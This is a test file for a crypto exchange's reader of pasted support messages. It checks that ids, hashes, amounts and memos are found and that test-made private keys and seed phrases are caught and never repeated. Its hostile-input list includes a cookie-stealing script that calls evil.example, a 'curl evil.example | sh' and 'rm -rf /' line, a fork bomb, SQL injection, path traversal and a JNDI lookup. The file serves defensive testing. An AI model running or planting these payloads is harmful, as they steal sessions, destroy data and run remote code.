"""What a pasted text is read as: all that it can be, nothing that is not in it, in linear work.

Keys and phrases are seen in whatever they stand in, and nothing of them is left in the answer.

Every secret here is made for the test. A refused text is answered by one of three fixed sentences
and nothing else, so whatever reads the answer cannot show, keep or send what was in the text.
"""

from __future__ import annotations

import hashlib
import json
import random
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator
from decimal import Decimal
from importlib.resources import files
from re import _constants as code
from re import _parser as parser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from corpus import Case, load, texts
from rows import each_row
from sampling import examples
from swapdesk.chain.addresses import base58
from swapdesk.chain.addresses.base58 import XRP_ALPHABET
from swapdesk.chain.addresses.display import grouped, short, transaction_link, wrapped_address
from swapdesk.chain.addresses.kinds import ADDRESS_KINDS, derive_address, derive_transaction_hash
from swapdesk.flows.support import pasted_secret, pasted_text
from swapdesk.flows.support.pasted_secret import KEY, OWN, PHRASE
from swapdesk.flows.support.pasted_text import (
    LONGEST,
    MOST_READINGS,
    NOTHING,
    TOO_LONG,
    UNREADABLE,
    WORD_LIMIT,
    PastedText,
    read_pasted,
)
from swapdesk.sandbox.world import build_chains
from swapdesk.wire.encoding.ids import new_object_id, new_order_id

ORDER = "h8Kq2PdT5mXcVbN3wRtY7z"
HASH = "0x" + "8f2c" * 16
BARE = "8f2c" * 16
SIGNATURE = (
    "5VERv8NMvzbJMEkV8xnrLkEaWRtSz9CosKDYjCJjBRnbJLgp8uirBgmQpjKhoR4tjF3ZpRzrFmBV6UjKdiSZkQUW"
)
REQUEST = "6f1d22c9-0b6e-4c5e-9d53-7c2f6b1f0a11"
SYMBOLS = {"BTC", "ETH", "USDT", "USDC", "SOL", "XRP", "USDC.E"}


def read(text: str) -> PastedText:
    return read_pasted(text, is_symbol=lambda word: word.upper() in SYMBOLS)


FULL_WIDTH = {at: at - 0xFEE0 for at in range(0xFF01, 0xFF5F)}
HIDDEN = ("Cf", "Cs", "Co", "Cn")
"""Categories of characters that are not drawn."""


def kinds(text: str) -> list[tuple[str, str]]:
    return [(one.kind, one.value) for one in read(text).readings]


@each_row(
    ("text", "wanted"),
    [
        (ORDER, [("id", ORDER), ("memo", ORDER)]),
        ("h8Kq2P", [("id", "h8Kq2P"), ("memo", "h8Kq2P")]),
        ("h8K", [("memo", "h8K")]),
        ("774411", [("id", "774411"), ("memo", "774411")]),
        ("7", [("memo", "7")]),
        (REQUEST, [("id", REQUEST), ("request", REQUEST)]),
        ("a" * 24, [("id", "a" * 24), ("memo", "a" * 24)]),
        (HASH, [("transaction", HASH), ("address", HASH)]),
        (HASH.upper(), [("transaction", HASH)]),
        (BARE, [("transaction", BARE)]),
        (SIGNATURE, [("transaction", SIGNATURE)]),
        ("0.5 BTC", [("amount", "0.5 BTC")]),
        ("0.5btc", [("amount", "0.5 BTC"), ("memo", "0.5btc")]),
        ("BTC 0.5", [("amount", "0.5 BTC")]),
        ("1 000 000 usdt", [("amount", "1,000,000 USDT")]),
        ("1'234.50 USDT", [("amount", "1,234.50 USDT")]),
        ("12.000,50 USDT", [("amount", "12,000.50 USDT")]),
        ("12,000.50 USDT", [("amount", "12,000.50 USDT")]),
        ("1.234.567 USDT", [("amount", "1,234,567 USDT")]),
        ("0.000000000000000001 ETH", [("amount", "0.000000000000000001 ETH")]),
        ("1,234 USDT", [("amount", "1,234 USDT"), ("amount", "1.234 USDT")]),
        ("1.234 USDT", [("amount", "1.234 USDT"), ("amount", "1,234 USDT")]),
        ("5 APPLES", []),
        ("it was $500", []),
        (f"order {ORDER}", [("id", ORDER)]),
        (f"Order: {ORDER}.", [("id", ORDER)]),
        ("my order number is 12345678", [("id", "12345678")]),
        ("order no. h8Kq2P, please", [("id", "h8Kq2P")]),
        ("ref: h8Kq2P", [("id", "h8Kq2P")]),
        ("the order is complete", []),
        ("memo: 774411", [("memo", "774411")]),
        ("destination tag 774411", [("memo", "774411")]),
        ("payment-id = 77aa4411", [("id", "77aa4411"), ("memo", "77aa4411")]),
        ('{"serviceId": "' + ORDER + '", "depositTag": "774411"}', [("id", ORDER)]),
        ('{"memo":"774411"}', [("memo", "774411")]),
        ("memo hello", []),
        ("so it goes", []),
    ],
)
def test_texts_are_read(text: str, wanted: list[tuple[str, str]]) -> None:
    assert kinds(text) == wanted


@each_row("case", load(name="pasted"), ids=lambda case: case.id)
def test_what_people_paste_is_read_as_what_it_is(case: Case) -> None:
    assert [list(one) for one in kinds(case.text)] == case.expect["readings"]


def test_a_hash_that_is_an_address_as_well_is_called_both() -> None:
    assert [one.called for one in read(HASH).readings] == [
        "a transaction hash of an EVM chain",
        "a Sui address without a checksum",
    ]


@each_row("chain", build_chains(), ids=lambda chain: chain.short_name)
def test_the_explorer_link_of_every_chain_names_its_transaction(chain: Any) -> None:
    transaction = derive_transaction_hash(chain.kind, b"h" * 32)
    link = transaction_link(chain.explorer_url, transaction)
    for text in (link, f"Look: {link}.", f"<{link}>", f"{link}?tab=logs#1"):
        assert any(transaction in one.texts for one in read(text).of("transaction")), text


def test_ids_in_the_head_of_an_e_mail_do_not_hide_what_is_in_it() -> None:
    head = "\n".join(f"X-Trace-{at}: {new_order_id(random.Random(at))}" for at in range(40))
    found = read(f"{head}\n\nI sent 0.5 BTC with {HASH}, memo 774411")
    assert len(found.readings) == MOST_READINGS
    assert found.cut
    assert {one.kind for one in found.readings} == {
        "id", "transaction", "address", "amount", "memo",
    }  # fmt: skip
    named = read(f"{head}\n\nMy order number is {ORDER}")
    assert named.readings[0].value == ORDER


def test_every_id_that_the_service_draws_is_seen_in_a_sentence() -> None:
    """One of thirty has no digit."""
    rng = random.Random(11)
    for _ in range(300):
        whole = new_order_id(rng)
        assert ("id", whole) in kinds(f"I wait for {whole} since an hour"), whole
        row = new_object_id(rng)
        assert ("id", row) in kinds(f"quote {row.upper()} it was"), row


@each_row("text", ["", "  \n\t ", "\0\0", "\u200b\u202e\ufeff", "\ud800", "\U000e0041"])
def test_nothing_to_see_is_nothing_pasted(text: str) -> None:
    assert read(text) == PastedText(problem=NOTHING)


HOSTILE = [
    *texts.control_texts(),
    *texts.invisible_texts(),
    *texts.markup_texts(),
    *texts.wide_texts(),
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "$(rm -rf /) `id` && curl evil.example | sh ; :(){ :|:& };:",
    "'; DROP TABLE orders; --",
    "../../../../etc/passwd",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
    "١٢٣٤٥٦ ６７８９ Ⅷ ⁷⁷",
    "０ｘ" + "ａ" * 64,
]


@each_row("around", ["{}", f"{{}} {ORDER}", f"{HASH}{{}}\n774411"])
def test_hostile_texts_are_read_and_never_repeated_as_they_are(around: str) -> None:
    for text in HOSTILE:
        clean(read(around.replace("{}", text)))


def clean(found: PastedText) -> None:
    """What stands in the answer can be drawn, sent and kept."""
    assert bool(found.readings) is not bool(found.problem)
    assert len(found.readings) <= MOST_READINGS
    assert len({(one.kind, one.value) for one in found.readings}) == len(found.readings)
    for one in found.readings:
        for text in (*one.texts, one.called, one.symbol, *one.chains):
            assert text.isprintable(), repr(text)
            assert all(unicodedata.category(char) not in ("Cc", "Cf") for char in text)
            assert len(text) <= WORD_LIMIT
        assert all(text.isascii() for text in one.texts), one
        assert (one.amount is not None) is (one.kind == "amount")
        assert one.amount is None or (one.amount.is_finite() and one.amount >= 0)


@settings(max_examples=examples(400, part=8))
@given(st.text(max_size=200))
@example("BTC 1")
@example("\u202e" + ORDER)
def test_any_text_is_read_without_an_error_and_said_from_what_is_in_it(text: str) -> None:
    found = read(text)
    clean(found)
    drawn = "".join(char for char in text if unicodedata.category(char) not in HIDDEN).lower()
    drawn += "".join(str(unicodedata.decimal(one, one)) for one in drawn.translate(FULL_WIDTH))
    for one in found.readings:
        if one.kind == "shortened":
            assert all(end.lower() in drawn for end in one.ends), one
        elif one.kind != "amount":
            assert any(spelled.lower() in drawn for spelled in one.texts), one


@settings(max_examples=examples(400, part=8))
@given(
    st.sampled_from([ORDER, HASH, SIGNATURE, REQUEST, derive_address("evm", b"q" * 32)]),
    st.text(max_size=60),
    st.text(max_size=60),
    st.sampled_from([" ", "\n", "\t", "\0", ", ", " (", "<", "'", '"', "|", "\x1b", ";"]),
    st.sampled_from(["", "\u200b", "\u202e", "\ufeff"]),
)
def test_what_names_an_order_is_found_in_any_text(
    name: str, before: str, after: str, between: str, hidden: str
) -> None:
    found = read(f"{before}{between}{name[:9]}{hidden}{name[9:]} {after}")
    if not found.secret and not found.cut:
        assert any(name in one.texts for one in found.readings), found


@settings(max_examples=examples(200))
@given(st.decimals("0.000001", "99999999", places=6), st.sampled_from(sorted(SYMBOLS)))
def test_amounts_are_read_to_their_digits(amount: Decimal, symbol: str) -> None:
    for text in (f"{amount:f} {symbol}", f"I sent {amount:f}{symbol.lower()} to you"):
        found = [one for one in read(text).of("amount") if one.amount == amount]
        assert [one.symbol for one in found] == [symbol]
    with_groups = read(f"{amount:,f} {symbol}").of("amount")
    assert amount in [one.amount for one in with_groups]


SCRIPTS = {
    "latin": "abcdefghijklmnopqrstuvwxyzäéñøß",
    "cyrillic": "абвгдежзиклмнопрстуфхцчшщыьэюяїє",
    "greek": "αβγδεζηθικλμνξοπρστυφχψωάέήίόύώ",
    "arabic": "ابتثجحخدذرزسشصضطظعغفقكلمنهويةءی",
    "hebrew": "אבגדהוזחטיכלמנסעפצקרשתםןץ",
    "han": "我你他们的了是不在有钱转帐没到请问怎么办谢快点等很久",
    "kana": "あいうえおかきくけこさしすせそアイウエオカキクケコー",
    "hangul": "가나다라마바사아자차카타파하입금했는데안와요",
    "devanagari": "अआइईउऊएऐकखगघचछजटठडतथदनपफबमयरलवशसह\u093e\u093f\u0940\u0947",
    "thai": "กขคงจฉชซญดตถทธนบปผพมยรลวสหอะา",
}
QUOTES = (
    "",
    " ",
    "“",
    "”",
    "„",
    "«",
    "»",
    "「",
    "』",
    "：",
    "。",
    "、",
    "，",
    "（",
    "؟",
    "—",
    "\n",
    "|",
)
TELLING = {
    "order": ORDER,
    "request": REQUEST,
    **{f"address {kind}": derive_address(kind, b"k" * 32) for kind in ADDRESS_KINDS},
    **{f"hash {kind}": derive_transaction_hash(kind, b"h" * 32) for kind in ADDRESS_KINDS},
}
BROKEN: dict[str, Callable[[str], str]] = {
    "whole": lambda word: word,
    "over a line": lambda word: f"{word[: len(word) // 3 * 2]}\n{word[len(word) // 3 * 2 :]}",
    "in an answer": lambda word: f"{word[:15]}\n> {word[15:]}",
    "escaped": lambda word: "".join(f"%{ord(char):02X}" for char in word),
    "hidden": lambda word: f"{word[:7]}\u200b{word[7:]}",
    "in a link": lambda word: f"https://explorer.example/address/{word}?page=2",
    "in a tag": lambda word: f"<a href='https://x.example/#{word}'>here</a>",
    "in groups": grouped,
    "in groups of lines": lambda word: "\n     ".join(wrapped_address(word, 27)),
}


def prose(script: str, draw: random.Random, words: int = 6) -> str:
    """Some words of a script, with signs of any."""
    letters = SCRIPTS[script]
    said = ("".join(draw.choices(letters, k=draw.randint(1, 9))) for _ in range(words))
    return "".join(word + draw.choice(QUOTES) + " " for word in said)


@each_row("script", SCRIPTS)
@each_row("broken", BROKEN)
def test_what_names_an_order_is_found_in_every_script(script: str, broken: str) -> None:
    """Beside letters of other scripts without a blank, and in the forms in which it arrives."""
    draw = random.Random(f"{script} {broken}")
    # Each in every form, and in every fifth script.
    for name, word in list(TELLING.items())[sorted(SCRIPTS).index(script) % 5 :: 5]:
        glued = script != "latin" and " in " not in broken
        before, after = prose(script, draw).rstrip(), prose(script, draw)
        part = draw.choice(QUOTES) if glued else " "
        text = f"{before}{part}{BROKEN[broken](word)}{part}{after}"
        assert any(word in one.texts for one in read(text).readings), (name, text)


@settings(max_examples=examples(400, part=8))
@given(
    st.sampled_from(sorted(SCRIPTS)),
    st.integers(0, 1 << 30),
    st.sampled_from(
        [
            "Memo",
            "memo (ID)",
            "Destination Tag",
            "DT",
            "标签",
            "备注",
            "мемо",
            "Zieltag",
            "タグ",
            "메모",
        ]
    ),
    st.sampled_from([": ", "：", " ", " = ", "\n", " #", " — ", ' "']),
    st.integers(1, 2**32),
    st.decimals("0.000001", "99999999", places=6),
    st.sampled_from([" ", "\u00a0", "\u202f", "\u2009", "", " **"]),
)
def test_memos_and_amounts_are_found_in_every_script(
    script: str, seed: int, label: str, between: str, memo: int, amount: Decimal, blank: str
) -> None:
    draw = random.Random(seed)
    before, after = prose(script, draw), prose(script, draw)
    text = f"{before}{label}{between}{memo} {after}"
    assert str(memo) in [one.value for one in read(text).of("memo")], text
    grouping = draw.choice(["", " ", "\u00a0", "\u202f", "\u2009", "’"])
    written = f"{amount:,f}".replace(",", grouping)
    text = f"{before}{written}{blank}USDT {after}"
    assert [one.amount for one in read(text).of("amount")] == [amount], text


def test_nothing_is_found_in_texts_that_name_nothing() -> None:
    draw = random.Random(35)
    named = (
        *(
            "MetaMask",
            "iPhone",
            "Alice",
            "KuCoin",
            "Windows",
            "11",
            "2026",
            "3:45",
            "14.02.",
            "50%",
        ),
        *("$500", "24h", "No", "3", "v2", "#4", "A4", "1st"),
    )
    for _ in range(examples(1_000)):
        script = draw.choice(sorted(SCRIPTS))
        words = [prose(script, draw, draw.randint(1, 5)) for _ in range(draw.randint(1, 6))]
        beside = draw.choices(named, k=draw.randint(0, 3))
        whole = [*words, *beside]
        draw.shuffle(whole)
        text = draw.choice((" ", "\n", "... ", ", ")).join(whole)
        assert read(text).readings == (), text


@each_row("kind", ADDRESS_KINDS)
def test_an_address_is_of_its_chains_and_cut_short_it_is_known_by_its_ends(kind: str) -> None:
    address = derive_address(kind, b"k" * 32)
    assert kind in read(address).of("address")[0].chains
    for whole in (address, derive_transaction_hash(kind, b"h" * 32)):
        other = derive_transaction_hash(kind, b"i" * 32)
        mark = "0x" if whole.startswith("0x") else ""
        for cut in (
            short(whole),
            f"{whole[:8]}…{whole[-6:]}",
            f"{whole[:8]}...{whole[-6:]}",
            f"{whole[:9]} … {whole[-6:]}",
        ):
            found = [one for one in read(f"I see {cut} there").readings if one.cut_from(whole)]
            assert found, cut
            assert not found[0].cut_from(other)
            assert not found[0].cut_from(mark + whole[-5:])


def test_a_new_kind_of_chain_brings_its_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    word = "zed_7Hq2-9fKp-3Xw8"

    def read_hash(text: str) -> bytes | None:
        return b"z" * 32 if text == word else None

    zed = replace(ADDRESS_KINDS["sui"], name="zed", chain="Zed", read_hash=read_hash)
    assert read(f"订单{word}没到").of("transaction") == []
    monkeypatch.setitem(ADDRESS_KINDS, "zed", zed)
    (found,) = read(f"订单{word}没到").readings
    assert (found.value, found.called, found.chains) == (word, "a Zed transaction hash", ("zed",))


def test_words_that_may_begin_an_id_prove_nothing() -> None:
    """Only who knows the orders can say whether one begins so."""
    found = read("Hola, h8Kq2P o hKqPdT no llega a MetaMask")
    assert found.readings == ()
    assert found.beginnings == ("h8Kq2P", "hKqPdT")
    assert found.problem == UNREADABLE
    assert found.searchable
    assert read("nada llega") == PastedText(problem=UNREADABLE)
    assert not read("nada llega").searchable


def test_two_ids_in_two_lines_stay_two() -> None:
    rng = random.Random(5)
    for _ in range(50):
        first, second = new_order_id(rng), new_order_id(rng)
        for between in ("\n", ",", "/", "-", "_", "和", " & ", "\n> "):
            values = [one.value for one in read(f"It is {first}{between}{second}").of("id")]
            assert values == [first, second], between


def test_several_words_in_a_row_are_not_put_together() -> None:
    numbers = " ".join(f"{at * 7_654_321 % 10**8:08d}" for at in range(3, 11))
    assert read(f"I have the tags {numbers}").of("transaction") == []
    address, row = derive_address("evm", b"s" * 32), "8f2c" * 6
    found = read(f"paid to\n{address}\n{row}\nplease")
    assert [one.value for one in found.of("address")][:1] == [address]
    assert [one.value for one in found.of("id")] == [row]
    accounts = [derive_address("sol", bytes([at]) * 32) for at in range(6)]
    for between in (" ", "\n", ", "):
        values = [one.value for one in read(f"from {between.join(accounts)}").of("address")]
        assert values[:6] == accounts, between


def test_what_is_longer_than_it_may_be_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    assert read("a" * (LONGEST + 1)) == PastedText(problem=TOO_LONG)
    monkeypatch.setattr(pasted_text, "MOST_WORDS", 50)
    assert not read(f"{ORDER} " + "it " * 49).cut
    assert read(f"{ORDER} " + "it " * 50).cut
    assert read("it " * 60 + "-----BEGIN PRIVATE KEY-----").problem == KEY


UNITS = (
    "a", "7", " ", "\0", "\u202e", "é", "漢", "😀", "[", "<", "0x", "1,", "so it goes ",
    "order  ", "no-", "memo abcd ", "111 ", "[1,", "{'a':", "-----BEGIN ", "wallet ", "secret-",
    "0xabc ", f"{HASH} ", f"{ORDER} ", f"/{SIGNATURE}", "is  ", "\ud800", "a@b.example ",
)  # fmt: skip


@each_row("unit", UNITS)
def test_much_of_anything_is_read(unit: str) -> None:
    found = read(unit * ((1 << 12) // len(unit)))
    assert found.secret or clean(found) is None


def calls(text: str) -> int:
    """How many functions are called to read a text."""
    count = 0

    def counted(frame: Any, event: str, argument: Any) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(counted)
    try:
        read(text)
    finally:
        sys.setprofile(before)
    return count


@each_row(
    "unit", ["so it goes ", f"{HASH} ", f"{ORDER} ", "1,234 USDT ", "order h8Kq2P ", f"/{HASH}"]
)
def test_work_grows_no_faster_than_the_text(unit: str) -> None:
    once, twice = calls(unit * 100), calls(unit * 200)
    assert twice <= 2 * once + 1_000


PATTERNS = [
    (module.__name__.rpartition(".")[2] + "." + name, value)
    for module in (pasted_text, pasted_secret)
    for name, value in vars(module).items()
    if isinstance(value, re.Pattern)
]
MATCHED_WHOLE = {"_ID", "_STRONG_ID", "_SHORT_UUID", "_BASE58", "_MEMO", "_DIGITS", "_UUID"}
"""Patterns of one word, which has at most so many characters as a word may have."""
WIDEST = 2_000


@each_row(("name", "pattern"), PATTERNS)
def test_no_pattern_looks_further_than_so_many_characters(
    name: str, pattern: re.Pattern[str]
) -> None:
    """Else one text of its own kind takes the square of its length: each place in it is tried."""
    if name.rpartition(".")[2] in MATCHED_WHOLE:
        return
    parsed = list(parser.parse(pattern.pattern, pattern.flags))
    if len(parsed) == 1 and parsed[0][0] is code.MAX_REPEAT:
        # One class alone, which no place of the text is tried for twice.
        inner = list(parsed[0][1][2])
        assert [kind for kind, _ in inner] == [code.IN]
        return
    for tree in (parsed, *looked_ahead(parsed)):
        width = parser.SubPattern(parser.State(), list(tree)).getwidth()[1]
        assert width <= WIDEST, (name, width)


def looked_ahead(tree: Any) -> Iterator[Any]:
    """What a pattern looks at without taking it, at any depth."""
    for kind, value in tree:
        if kind in (code.ASSERT, code.ASSERT_NOT):
            yield value[1]
        for part in value if isinstance(value, (tuple, list)) else ():
            for nested in part if isinstance(part, list) else (part,):
                if isinstance(nested, parser.SubPattern):
                    yield from looked_ahead(nested)


WORDS = (files("swapdesk.flows.support") / "seed_words.txt").read_text(encoding="ascii").split()
OWN_SECRET = "sk-9f2c77aa-our-partner-secret"


def read_here(text: str) -> PastedText:
    return read_pasted(
        text, is_symbol=lambda word: word.upper() == "BTC", own_secrets=(OWN_SECRET,)
    )


def octets(seed: str, size: int = 32) -> bytes:
    return hashlib.shake_256(seed.encode()).digest(size)


def key_pair(seed: str) -> bytes:
    from Crypto.PublicKey import ECC

    private = octets(seed)
    pair = ECC.construct(curve="Ed25519", seed=private)  # type: ignore[arg-type]
    return private + pair.public_key().export_key(format="raw")


HEX = octets("hex").hex()
PAIR = key_pair("solana")
KEYS = {
    "hex that is named": f"private key: {HEX}",
    "hex with its mark": f"private_key = 0x{HEX}",
    "hex in capitals": f"PRIVATE KEY IS {HEX.upper()}",
    "hex named in a sentence": f"the private key of my wallet is {HEX}",
    "hex named behind it": f"{HEX} is my private key",
    "hex in a setting": f'export WALLET_KEY="0x{HEX}"',
    "hex of both halves": PAIR.hex(),
    "hex of both halves with its mark": "0x" + PAIR.hex(),
    "wif": base58.encode_check(b"\x80" + octets("wif")),
    "wif of a compressed key": base58.encode_check(b"\x80" + octets("wif") + b"\1"),
    "litecoin wif": base58.encode_check(b"\xb0" + octets("ltc") + b"\1"),
    "dogecoin wif": base58.encode_check(b"\x9e" + octets("doge") + b"\1"),
    "xrp seed": base58.encode_check(b"\x21" + octets("xrp", 16), XRP_ALPHABET),
    "solana pair": base58.encode(PAIR),
    "solana file": json.dumps(list(PAIR)),
    "solana file without blanks": json.dumps(list(PAIR), separators=(",", ":")),
    "solana file in lines": json.dumps(list(PAIR), indent=1),
    "extended key": "xprv" + "9" * 107,
    "pem": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI\n-----END EC PRIVATE KEY-----",
    "keystore": json.dumps({"crypto": {"ciphertext": octets("c").hex(), "cipher": "aes"}}),
}
IN_LETTERS = [name for name in KEYS if " named" not in name and "setting" not in name]
"""Keys that are seen by their form, whatever stands around them."""

SURROUNDINGS: dict[str, Callable[[str], str]] = {
    "alone": lambda key: key,
    "with blanks": lambda key: f"  \t{key}\r\n",
    "in an e-mail": lambda key: f"Hello,\n\nmy order is stuck. My wallet: {key}\n\nThanks, Bob",
    "quoted": lambda key: f"> '{key}'",
    "behind a sign": lambda key: f"wif={key}",
    "in a link": lambda key: f"https://example.com/import/{key}?now=1",
    "in html": lambda key: f"<p onclick=x>{key}</p>",
    "in a shell": lambda key: f"echo {key} | import; rm -rf /",
    "behind a nul": lambda key: f"\0\0{key}\0",
    "turned around": lambda key: f"\u202e{key}\u202c",
    "behind other letters": lambda key: f"мой ключ: {key} 私の鍵",
    "behind a long text": lambda key: "so it goes " * 300 + key,
    "before a long text": lambda key: key + " so it goes" * 300,
}


@each_row("name", KEYS)
@each_row("around", SURROUNDINGS)
def test_a_key_is_seen_and_not_repeated(name: str, around: str) -> None:
    assert read_here(SURROUNDINGS[around](KEYS[name])) == PastedText(problem=KEY, secret=True)


@each_row("name", IN_LETTERS)
@each_row("hidden", ["\u200b", "\u2060", "\ufeff", "\u00ad", "\u202e", "\U000e0041"])
def test_a_key_is_seen_behind_characters_that_are_not_drawn(name: str, hidden: str) -> None:
    key = KEYS[name]
    assert read_here(key[:30] + hidden + key[30:]).problem == KEY


def phrase(seed: str, count: int = 12) -> list[str]:
    chosen = octets(seed, count * 2)
    return [WORDS[int.from_bytes(chosen[at : at + 2]) % 2048] for at in range(0, count * 2, 2)]


_OTHERS = (files("swapdesk.flows.support") / "seed_words_of_languages.txt").read_text("utf-8")
LANGUAGES = {name: words for name, *words in map(str.split, _OTHERS.splitlines())}
PUBLISHED = {
    "english": "2f5eed53a4727b4bf8880d8f3f199efc90e58503646d9ff8eff3a2ed3b24dbda",
    "spanish": "46846a5a0139d1e3cb77293e521c2865f7bcdb82c44e8d0a06a2cd0ecba48c0b",
    "french": "ebc3959ab7801a1df6bac4fa7d970652f1df76b683cd2f4003c941c63d517e59",
    "italian": "d392c49fdb700a24cd1fceb237c1f65dcc128f6b34a8aacb58b59384b5c648c2",
    "czech": "7e80e161c3e93d9554c2efb78d4e3cebf8fc727e9c52e03b83b94406bdcc95fc",
    "portuguese": "2685e9c194c82ae67e10ba59d9ea5345a23dc093e92276fc5361f6667d79cd3f",
    "japanese": "2eed0aef492291e061633d7ad8117f1a2b03eb80a29d0e4e3117ac2528d05ffd",
    "korean": "9e95f86c167de88f450f0aaf89e87f6624a57f973c67b516e338e8e8b8897f60",
    "chinese_simplified": "5c5942792bd8340cb8b27cd592f1015edf56a8c5b26276ee18a482428e7c5726",
    "chinese_traditional": "417b26b3d8500a4ae3d59717d7011952db6fc2fb84b807f3f94ac734e89c1b5f",
}


@each_row("language", LANGUAGES)
@each_row("form", ["NFC", "NFKD", "without accents"])
def test_a_phrase_of_every_official_list_is_seen(language: str, form: str) -> None:
    listed = LANGUAGES[language]
    for count, between in ((12, " "), (15, "\n"), (24, "\u3000"), (12, ", ")):
        chosen = [
            listed[int.from_bytes(octets(f"{language} {at}", 2)) % 2048] for at in range(count)
        ]
        text = between.join(chosen)
        if form != "without accents":
            text = unicodedata.normalize(form, text)
        elif language in ("japanese", "korean"):
            continue
        else:
            text = "".join(one for one in text if not unicodedata.combining(one))
        numbered = between.join(f"{at}. {word}" for at, word in enumerate(text.split(between), 1))
        for whole in (text, f"Bonjour, 您好:\n{text}\nGrüße", numbered):
            assert read_here(whole) == PastedText(problem=PHRASE, secret=True), whole


def test_signs_of_chinese_in_a_row_are_a_phrase_where_their_checksum_holds() -> None:
    listed = LANGUAGES["chinese_simplified"]
    bits = "".join(f"{one:08b}" for one in octets("signs", 32))
    bits += f"{hashlib.sha256(octets('signs', 32)).digest()[0]:08b}"
    signs = "".join(listed[int(bits[at : at + 11], 2)] for at in range(0, 264, 11))
    assert read_here(signs).problem == PHRASE
    assert read_here(f"你好，我的助记词是：{signs}。").problem == PHRASE
    assert not read_here(f"{signs[1:]}{signs[0]}").secret
    assert not read_here("我的助记词是什么我不知道请告诉我怎么办才好，订单还没有到。").secret


def test_the_lists_of_all_languages_are_the_published_ones() -> None:
    told = {
        name: hashlib.sha256(("\n".join(words) + "\n").encode()).hexdigest()
        for name, words in {"english": WORDS, **LANGUAGES}.items()
    }
    assert told == PUBLISHED
    assert len(set(WORDS)) == 2048


KEY_SAID = (
    "mi clave privada es {}",
    "Clave privada: {}",
    "ma clé privée est : {}",
    "Mein privater Schlüssel lautet {}",
    "chave privada da minha carteira: {}",
    "la chiave privata è {}",
    "мой приватный ключ: {}",
    "Закрытый ключ от кошелька — {}",
    "我的私钥是{}",
    "私鑰：{}",
    "秘密鍵は{}です",
    "개인 키: {}",
    "المفتاح الخاص: {}",
    "निजी कुंजी: {}",
    "{} es mi clave privada",
    "{} ist mein privater Schlüssel",
)


@each_row("said", KEY_SAID)
@each_row("form", ["{}", "0x{}", "0X{}", "broken", "in groups"])
def test_digits_that_a_text_of_any_language_calls_a_key_are_one(said: str, form: str) -> None:
    key = {
        "broken": f"{HEX[:40]}\n{HEX[40:]}",
        "in groups": " ".join(HEX[at : at + 8] for at in range(0, 64, 8)),
    }.get(form) or form.format(HEX)
    assert read_here(f"Hola, 你好. {said.format(key)} ok").problem == KEY


@each_row("name", ["wif", "solana pair", "xrp seed", "hex of both halves"])
def test_a_key_is_seen_over_two_lines_in_an_answer_and_in_a_link(name: str) -> None:
    key = KEYS[name]
    for text in (
        f"it is {key[:17]}\n{key[17:]} ok",
        f"> it is {key[:17]}\n> {key[17:]} ok",
        "https://x.example/?k=" + "".join(f"%{ord(one):02X}" for one in key),
    ):
        assert read_here(text).problem == KEY, text


SPELLINGS: dict[str, Callable[[list[str]], str]] = {
    "in a row": " ".join,
    "in lines": "\n".join,
    "with commas": ", ".join,
    "with dashes": "-".join,
    "run by tabs": "\t".join,
    "in capitals": lambda words: " ".join(words).upper(),
    "capitalised": lambda words: " ".join(word.capitalize() for word in words),
    "numbered": lambda words: " ".join(f"{at}. {word}" for at, word in enumerate(words, 1)),
    "numbered in lines": lambda words: "\n".join(f"{at}) {w}" for at, w in enumerate(words, 1)),
    "numbered and glued": lambda words: " ".join(f"{at}{w}" for at, w in enumerate(words, 1)),
    "as json": json.dumps,
    "in html": lambda words: "".join(f"<li>{word}</li>" for word in words),
    "quoted": lambda words: "\n".join(f"> {word}" for word in words),
    "as a tag": lambda words: f"<{' '.join(words)}>",
    "hidden signs": lambda words: " ".join(f"{word[0]}\u200b{word[1:]}" for word in words),
    "between nuls": "\0".join,
}


@each_row("count", [12, 15, 18, 21, 24])
@each_row("spelling", SPELLINGS)
def test_a_phrase_is_seen_however_it_is_written(count: int, spelling: str) -> None:
    words = phrase(f"{spelling} {count}", count)
    for text in (
        SPELLINGS[spelling](words),
        f"Dear team, nothing came. My words are:\n{SPELLINGS[spelling](words)}\nRegards, Carol",
    ):
        assert read_here(text) == PastedText(problem=PHRASE, secret=True)


@settings(max_examples=examples(200))
@given(
    st.integers(0, 1 << 30),
    st.sampled_from([12, 24]),
    st.sampled_from(sorted(SPELLINGS)),
    st.integers(0, 23),
    st.text(max_size=40),
    st.text(max_size=40),
)
def test_one_word_of_a_phrase_may_be_mistyped(
    seed: int, count: int, spelling: str, at: int, before: str, after: str
) -> None:
    words = phrase(str(seed), count)
    words[at % count] = "zzzzx"
    found = read_here(f"{before}\n{SPELLINGS[spelling](words)}\n{after}")
    # A word of the text beside it may be one of the list; it is a phrase all the same.
    assert found == PastedText(problem=PHRASE, secret=True)


@each_row(
    "text",
    [
        OWN_SECRET,
        f"curl -H 'Authorization: key:{OWN_SECRET}' https://example.com",
        f"it is\u202e {OWN_SECRET} \0",
        "sk-9f2c77aa\u200b-our-partner-secret",
        "x" * 500_000 + OWN_SECRET,
    ],
)
def test_a_secret_of_this_desk_is_seen(text: str) -> None:
    assert read_here(text) == PastedText(problem=OWN, secret=True)


HONEST = (
    "Hello, I sent 0.5 BTC an hour ago and nothing arrived. The order is h8Kq2PdT5mXcVbN3wRtY7z."
    " Can you please look what happened? Nobody knows my private key. Thank you very much, Alice",
    "Transaction hash: 0x" + "ab" * 32 + " from my wallet to yours, please help me with this.",
    "I never share my seed phrase or my private key with anybody. Tx " + "cd" * 32,
    "My wallet key ring is lost, anyway: order h8Kq2PdT5mXcVbN3wRtY7z",
    "signature " + base58.encode(octets("signed", 64)),
    json.dumps(list(octets("signed", 64))),
    "Dear support, I have been waiting for two days now and my money is still not here. I did what"
    " your page says and sent the amount to the address. What should I do? Please answer soon.",
    "Hi! I would like to know where my coins are. I sent 1,200 USDT on Tron with the memo 774411",
    "Je ne trouve pas ma commande, pouvez-vous me dire où est mon argent ? J’ai envoyé la somme"
    " hier soir vers l’adresse donnée et rien n’est arrivé. Merci pour votre aide, Camille",
